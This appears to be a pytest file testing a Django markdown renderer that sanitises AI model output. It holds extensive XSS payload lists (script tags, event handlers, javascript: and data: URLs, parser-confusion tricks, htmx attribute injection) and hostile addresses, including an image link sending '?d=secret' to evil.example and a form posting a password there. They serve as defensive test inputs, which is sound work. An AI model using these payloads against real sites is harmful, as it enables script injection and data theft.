"""A model's text is a stranger's: whatever it holds, the page gets a few harmless elements."""

import time
from html.parser import HTMLParser

import pytest
from django.utils.safestring import mark_safe

from definable.markdown import MAX_CHARS, TAGS, host_of, render_markdown

REL = "noopener noreferrer nofollow"

RAW_HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video poster=https://evil.example/p><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' ping='https://evil.example/p'>x</a>",
    "<a href=https://evil.example target=_blank>x</a>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div hx-get='/t/team/members/' hx-trigger=load>x</div>",
    "<div data-hx-get='/' data-hx-trigger=load>x</div>",
    "<div hx-on:load='alert(1)'>x</div>",
    "<hx-partial hx-target='#main'>x</hx-partial>",
    "<template hx type=partial hx-target='#main'>x</template>",
    "<div id=main hx-swap-oob=true>x</div>",
    "<div sse-connect='/stream/x'>x</div>",
    "<div data-confirm='#ask' data-copy='x'>x</div>",
    "<dialog open class=drawer>x</dialog>",
    "<p class='toast' id='toasts'>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<!-- a --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><html><head><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script >",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | 2 |",
    "**<script>alert(1)</script>**",
    "{{ request.user }}{% debug %}",
    "{% include 'base.html' %}",
]

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "java\tscript:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "\x01javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "javascript%3Aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/png;base64,iVBORw0KGgo=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "blob:https://evil.example/x",
    "mailto:a@evil.example",
    "tel:+123",
    "intent://evil.example#Intent;end",
    "view-source:https://evil.example",
    "//evil.example/x",
    "///evil.example/x",
    "\\\\evil.example\\x",
    "https:\\\\evil.example",
    "https:/evil.example",
    "https:evil.example",
    "https://",
    "https:///evil.example",
    "https://user@evil.example/",
    "https://bank.example:pass@evil.example/",
    "https://bank.example\\@evil.example/",
    "https://evil.example:99999/",
    "https://evil.example:port/",
    "https://[evil",
    "/t/team/members/",
    "t/team/",
    "?a=1",
    "#main",
    "..",
    "",
]


class Elements(HTMLParser):
    """Lists what a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words += data

    def handle_comment(self, data):
        self.found.append(("comment", {}))

    def handle_decl(self, decl):
        self.found.append(("declaration", {}))


def faults(html: str) -> list[tuple[str, dict]]:
    """Return every element that a rendered text may not hold."""
    return [(tag, attributes) for tag, attributes in Elements(html).found if not harmless(tag, attributes)]


def harmless(tag: str, attributes: dict) -> bool:
    if tag == "a" and "href" in attributes:
        return set(attributes) == {"href", "rel"} and attributes["rel"] == REL and bool(host_of(attributes["href"]))
    if tag == "a":
        return attributes in ({}, {"rel": REL})  # nh3 took an address that is none; so it leads nowhere
    return tag in TAGS and not attributes


def links(html: str) -> list[str]:
    return [attributes["href"] for tag, attributes in Elements(html).found if tag == "a" and "href" in attributes]


def test_the_judge_of_these_tests_sees_faults():
    assert faults("<p>fine <strong>x</strong></p>") == []
    bad = [
        "<script>",
        "<p class=x>",
        "<img src=x>",
        '<a href="https://a.example">x</a>',
        f'<a href="/x" rel="{REL}">x</a>',
    ]
    assert all(faults(html) for html in bad)


@pytest.mark.requirement("LLM-4")
@pytest.mark.parametrize("text", RAW_HTML)
def test_raw_html_is_shown_as_text(text):
    html = render_markdown(text)
    assert faults(html) == []
    assert links(html) == []


@pytest.mark.requirement("LLM-4")
@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize(
    "form", ["[click]({})", "![click]({})", "[click][r]\n\n[r]: {}", "<{}>", "[click](<{}>)", "![x][r]\n\n[r]: {}"]
)
def test_only_absolute_web_addresses_become_links(form, address):
    html = render_markdown(form.format(address))
    assert faults(html) == []
    assert links(html) == []


@pytest.mark.requirement("LLM-4")
@pytest.mark.parametrize(
    ("text", "html"),
    [
        (
            "[Docs](https://docs.example/a?b=1&c=2)",
            f'<p><a href="https://docs.example/a?b=1&amp;c=2" rel="{REL}">Docs</a> <bdi>(docs.example)</bdi></p>',
        ),
        (
            "![chart](https://evil.example/p.png?d=secret)",
            f'<p><a href="https://evil.example/p.png?d=secret" rel="{REL}">chart</a> <bdi>(evil.example)</bdi></p>',
        ),
        (
            "[mybank.example](http://evil.example)",
            f'<p><a href="http://evil.example" rel="{REL}">mybank.example</a> <bdi>(evil.example)</bdi></p>',
        ),
        (
            '[x](https://a.example "onmouseover=alert(1)")',
            f'<p><a href="https://a.example" rel="{REL}">x</a> <bdi>(a.example)</bdi></p>',
        ),
        (
            '[x](https://a.example/"onmouseover=alert(1))',
            f'<p><a href="https://a.example/%22onmouseover=alert(1)" rel="{REL}">x</a> <bdi>(a.example)</bdi></p>',
        ),
    ],
)
def test_a_link_shows_the_host_it_leads_to_and_an_image_is_a_link(text, html):
    assert render_markdown(text).strip() == html


@pytest.mark.requirement("LLM-4")
def test_lookalike_hosts_show_what_they_are():
    assert "<bdi>(xn--80ak6aa92e.com)</bdi>" in render_markdown("[x](https://аррӏе.com/)")


def test_addresses_in_running_text_stay_text():
    assert (
        render_markdown("See https://a.example and www.a.example").strip()
        == "<p>See https://a.example and www.a.example</p>"
    )


def test_ordinary_markdown_is_rendered():
    text = "Spend **rose** by *12%*.\n\n1. one\n2. two\n\n- a\n\n> said\n\n`x` ~~old~~\n\n| a |\n|---|\n| 1 |\n\n---"
    found = {tag for tag, _ in Elements(render_markdown(text)).found}
    assert found == {
        "p", "strong", "em", "ol", "ul", "li", "blockquote", "code", "s", "table", "thead", "tbody", "tr", "th", "td",
        "hr",
    }  # fmt: skip


def test_what_may_be_wider_than_the_page_is_reached_by_keyboard():
    html = render_markdown("| a |\n|---|\n| `<table>` |\n\n```\nx\n```", code_button=mark_safe("<button>Copy</button>"))
    assert [tag for tag, attributes in Elements(html).found if "tabindex" in attributes] == ["table", "pre"]
    assert html.count("<button>") == 1


def test_headings_fit_under_the_pages_own_and_skip_no_level():
    html = render_markdown("# A\n\n#### B\n\n## C\n\n###### D")
    assert [tag for tag, _ in Elements(html).found] == ["h3", "h4", "h4", "h5"]


def test_all_of_the_text_survives():
    assert "1 < 2 & 3 > 2" in Elements(render_markdown("1 < 2 & 3 > 2")).words
    assert "<b>bold</b>" in Elements(render_markdown("<b>bold</b>")).words


def test_a_very_long_text_is_shown_as_it_was_written():
    text = "**a** <b> " * (MAX_CHARS // 5)
    html = render_markdown(text)
    assert faults(html) == []
    assert Elements(html).words == text


@pytest.mark.parametrize(
    "text", ["[" * 5000, "*a " * 5000, "> " * 2000 + "x", "![" * 5000, "`" * 5000 + "a", "[a](http://b)" * 2000]
)
def test_text_made_to_be_slow_is_not(text):
    started = time.process_time()
    assert faults(render_markdown(text)) == []
    assert time.process_time() - started < 5
